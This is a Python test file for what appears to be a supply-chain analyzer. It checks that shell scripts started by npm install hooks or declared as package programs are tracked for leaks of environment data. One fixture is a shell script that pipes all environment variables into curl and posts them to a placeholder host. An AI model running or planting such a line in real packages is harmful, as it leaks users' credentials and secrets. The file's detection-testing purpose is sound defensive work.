"""Scripts for a shell that an npm package starts, or that are its programs, are followed like its hooks."""

import json

import pytest
from engine_flows import program_of

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act, Flow, Taint

TAKES = "#!/bin/sh\nenv | curl -d @- https://c.example.invalid/\n"
HONEST = '#!/bin/sh\nexec node "$(dirname "$0")/main.js" "$@"\n'
STARTS = {
    "a line": "require('child_process').execSync('sh ' + __dirname + '/b.sh')",
    "words": "require('child_process').spawn('bash', [require('path').join(__dirname, 'b.sh')])",
}


def sent(files: dict[str, str], manifest: dict[str, object]) -> list[Flow]:
    named = {"name": "a", "version": "1.0.0", **manifest}
    program = program_of("npm", {"package.json": json.dumps(named), "index.js": "1", **files})
    return [one for one in program.flows if one.act is Act.SEND and one.has(Taint.ENVIRONMENT)]


@pytest.mark.parametrize("way", STARTS)
def test_a_script_that_an_installer_starts(way: str) -> None:
    hooks = {"scripts": {"postinstall": "node i.js"}}
    found = sent({"i.js": STARTS[way], "b.sh": TAKES}, hooks)
    assert {one.reach for one in found} == {Reach.INSTALL}
    assert not sent({"i.js": STARTS[way], "b.sh": HONEST}, hooks)


@pytest.mark.parametrize("name", ["cli", "cli.sh"])
def test_a_program_for_a_shell_runs_when_it_is_called(name: str) -> None:
    found = sent({name: TAKES}, {"bin": {"a": name}})
    assert {one.reach for one in found} == {Reach.CALL}
    assert not sent({name: HONEST}, {"bin": {"a": name}})
    assert not sent({name: TAKES}, {})
